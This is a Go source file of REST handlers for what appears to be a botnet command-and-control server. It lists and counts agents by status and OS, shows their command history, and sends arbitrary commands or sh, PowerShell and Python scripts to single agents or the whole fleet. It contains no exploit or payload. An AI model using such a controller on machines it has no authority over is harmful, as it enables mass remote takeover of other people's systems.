package api

import (
	"fmt"
	"net/http"
	"os"
	"strconv"

	"github.com/go-chi/chi/v5"
	"github.com/google/uuid"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/dispatch"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

type agentHandler struct {
	registry   *registry.Registry
	store      *store.Store
	dispatcher *dispatch.Dispatcher
	log        *zap.Logger
}

// agentView is the wire shape of one inventory row.
type agentView struct {
	ID       string `json:"id"`
	Hostname string `json:"hostname"`
	Addr     string `json:"addr"`
	OS       string `json:"os"`
}

var validScriptTypes = map[string]bool{
	"sh":         true,
	"powershell": true,
	"python":     true,
}

// parseStatus validates the status query parameter. Absent means "all".
func parseStatus(r *http.Request) (string, error) {
	status := r.URL.Query().Get("status")
	switch status {
	case "":
		return "all", nil
	case "online", "offline":
		return status, nil
	}
	return "", fmt.Errorf("invalid status %q, use online or offline", status)
}

// parseOS validates the os query parameter. Absent or "*" means any.
func parseOS(r *http.Request) (string, error) {
	osFilter := r.URL.Query().Get("os")
	switch osFilter {
	case "", "*":
		return "*", nil
	case "Windows", "Linux", "Darwin":
		return osFilter, nil
	}
	return "", fmt.Errorf("invalid os %q, use Windows, Linux or Darwin", osFilter)
}

// parseEntity validates the entity path segment: "*" for the whole fleet or
// one agent identifier.
func parseEntity(r *http.Request) (string, error) {
	entity := chi.URLParam(r, "entity")
	if entity == "*" {
		return entity, nil
	}
	if _, err := uuid.Parse(entity); err != nil {
		return "", fmt.Errorf("invalid entity %q, use * or an agent id", entity)
	}
	return entity, nil
}

// Count answers GET /agents/count with a bare integer.
func (h *agentHandler) Count(w http.ResponseWriter, r *http.Request) {
	status, err := parseStatus(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}
	osFilter, err := parseOS(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}

	live := int64(h.registry.CountLive(osFilter))
	switch status {
	case "online":
		Ok(w, live)
		return
	}

	total, err := h.store.CountAgents(r.Context(), osFilter)
	if err != nil {
		h.log.Error("count agents failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	if status == "offline" {
		offline := total - live
		if offline < 0 {
			offline = 0
		}
		Ok(w, offline)
		return
	}
	Ok(w, total)
}

// List answers GET /agents/{entity}/list.
func (h *agentHandler) List(w http.ResponseWriter, r *http.Request) {
	entity, status, osFilter, ok := h.selector(w, r)
	if !ok {
		return
	}

	switch status {
	case "online":
		views := make([]agentView, 0)
		for _, id := range h.registry.LiveIDs(osFilter) {
			if entity != "*" && id != entity {
				continue
			}
			if ident, ok := h.registry.Lookup(id); ok {
				views = append(views, agentView{ID: ident.ID, Hostname: ident.Hostname, Addr: ident.Addr, OS: ident.OS})
			}
		}
		Ok(w, views)
		return

	case "offline":
		agents, err := h.store.ListAgents(r.Context(), entity, osFilter)
		if err != nil {
			h.log.Error("list agents failed", zap.Error(err))
			ErrInternal(w)
			return
		}
		live := toSet(h.registry.LiveIDs("*"))
		views := make([]agentView, 0, len(agents))
		for _, a := range agents {
			if live[a.ID] {
				continue
			}
			views = append(views, agentView{ID: a.ID, Hostname: a.Hostname, Addr: a.Address, OS: a.OS})
		}
		Ok(w, views)
		return
	}

	agents, err := h.store.ListAgents(r.Context(), entity, osFilter)
	if err != nil {
		h.log.Error("list agents failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	views := make([]agentView, 0, len(agents))
	for _, a := range agents {
		views = append(views, agentView{ID: a.ID, Hostname: a.Hostname, Addr: a.Address, OS: a.OS})
	}
	Ok(w, views)
}

// History answers GET /agents/{entity}/history with raw event rows. The
// online/offline split is computed against the live session set: offline
// history means "rows belonging to agents without a session right now".
func (h *agentHandler) History(w http.ResponseWriter, r *http.Request) {
	entity, status, osFilter, ok := h.selector(w, r)
	if !ok {
		return
	}

	var (
		ids     []string
		reverse bool
	)
	live := toSet(h.registry.LiveIDs("*"))

	switch status {
	case "online":
		if entity == "*" {
			if len(live) == 0 {
				Ok(w, []store.CommandEvent{})
				return
			}
			ids = keys(live)
		} else {
			if !live[entity] {
				Ok(w, []store.CommandEvent{})
				return
			}
			ids = []string{entity}
		}

	case "offline":
		if entity == "*" {
			if len(live) > 0 {
				ids = keys(live)
				reverse = true
			}
		} else {
			if live[entity] {
				Ok(w, []store.CommandEvent{})
				return
			}
			ids = []string{entity}
		}

	default: // all
		if entity != "*" {
			ids = []string{entity}
		}
	}

	rows, err := h.store.History(r.Context(), ids, reverse, osFilter)
	if err != nil {
		h.log.Error("history query failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	if rows == nil {
		rows = []store.CommandEvent{}
	}
	Ok(w, rows)
}

// Command answers POST /agents/{entity}/cmd.
func (h *agentHandler) Command(w http.ResponseWriter, r *http.Request) {
	entity, err := parseEntity(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}
	osFilter, err := parseOS(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}

	var body struct {
		Cmd string `json:"cmd"`
	}
	if !decodeJSON(w, r, &body) {
		return
	}
	if body.Cmd == "" {
		ErrBadRequest(w, "cmd must not be empty")
		return
	}

	result, err := h.dispatcher.Command(r.Context(), entity, osFilter, body.Cmd)
	if err != nil {
		h.log.Error("command dispatch failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	Ok(w, result)
}

// Script answers POST /agents/{entity}/script.
func (h *agentHandler) Script(w http.ResponseWriter, r *http.Request) {
	entity, err := parseEntity(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}
	osFilter, err := parseOS(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}

	var body struct {
		ScriptPath string `json:"script_path"`
		ScriptType string `json:"script_type"`
	}
	if !decodeJSON(w, r, &body) {
		return
	}
	if !validScriptTypes[body.ScriptType] {
		ErrBadRequest(w, fmt.Sprintf("invalid script_type %q, use sh, powershell or python", body.ScriptType))
		return
	}
	info, err := os.Stat(body.ScriptPath)
	if err != nil || !info.Mode().IsRegular() {
		ErrBadRequest(w, fmt.Sprintf("script_path %q is not a readable file", body.ScriptPath))
		return
	}

	result, err := h.dispatcher.Script(r.Context(), entity, osFilter, body.ScriptPath, body.ScriptType)
	if err != nil {
		h.log.Error("script dispatch failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	Ok(w, result)
}

// Delete answers DELETE /agents/{entity}/delete. Matching agents are removed
// from the store together with their history, and any live sessions are torn
// down. Returns the deleted ids.
func (h *agentHandler) Delete(w http.ResponseWriter, r *http.Request) {
	entity, err := parseEntity(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}
	osFilter, err := parseOS(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return
	}

	agents, err := h.store.ListAgents(r.Context(), entity, osFilter)
	if err != nil {
		h.log.Error("resolve delete targets failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	ids := make([]string, 0, len(agents))
	for _, a := range agents {
		ids = append(ids, a.ID)
	}

	if err := h.store.DeleteAgents(r.Context(), ids); err != nil {
		h.log.Error("delete agents failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	h.registry.Evict(ids)
	Ok(w, ids)
}

// GetTimeout answers GET /timeout with the current command timeout seconds.
func (h *agentHandler) GetTimeout(w http.ResponseWriter, r *http.Request) {
	Ok(w, h.dispatcher.CommandTimeout())
}

// SetTimeout answers PUT /timeout?timeout=N.
func (h *agentHandler) SetTimeout(w http.ResponseWriter, r *http.Request) {
	raw := r.URL.Query().Get("timeout")
	seconds, err := strconv.ParseInt(raw, 10, 64)
	if err != nil {
		ErrBadRequest(w, fmt.Sprintf("invalid timeout %q", raw))
		return
	}
	if err := h.dispatcher.SetCommandTimeout(seconds); err != nil {
		ErrBadRequest(w, err.Error())
		return
	}
	Ok(w, seconds)
}

// selector parses the three request selectors shared by the read endpoints.
func (h *agentHandler) selector(w http.ResponseWriter, r *http.Request) (entity, status, osFilter string, ok bool) {
	entity, err := parseEntity(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return "", "", "", false
	}
	status, err = parseStatus(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return "", "", "", false
	}
	osFilter, err = parseOS(r)
	if err != nil {
		ErrBadRequest(w, err.Error())
		return "", "", "", false
	}
	return entity, status, osFilter, true
}

func toSet(ids []string) map[string]bool {
	set := make(map[string]bool, len(ids))
	for _, id := range ids {
		set[id] = true
	}
	return set
}

func keys(set map[string]bool) []string {
	out := make([]string, 0, len(set))
	for k := range set {
		out = append(out, k)
	}
	return out
}
